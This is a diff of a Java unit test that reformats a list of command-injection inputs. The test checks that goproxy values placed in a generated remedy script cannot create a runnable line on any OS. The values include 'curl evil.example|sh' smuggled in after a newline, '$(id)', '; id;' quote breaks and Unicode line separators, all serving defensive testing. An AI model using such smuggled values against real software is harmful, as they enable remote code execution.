@@ -37,8 +37,8 @@ class RemedyScriptTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"https://a.example\ncurl evil.example|sh", "https://a.example\rcalc",
-      "https://a.example\u0085x", "https://a.example/'; id; '", "https://a.example/\u2019; calc", "https://a.example/$(id)", "off;id",
-      "https://a.example/\u2028id", "\u0000"})
+      "https://a.example\u0085x", "https://a.example/'; id; '", "https://a.example/\u2019; calc", "https://a.example/$(id)",
+      "off;id", "https://a.example/\u2028id", "\u0000"})
   void noValueMakesALineThatRuns(String value) {
     for (String os : List.of("linux", "darwin", "windows")) {
       assertThat(script(os, goproxy(value)).replace("\uFEFF", "").split("\\R")).as(os)
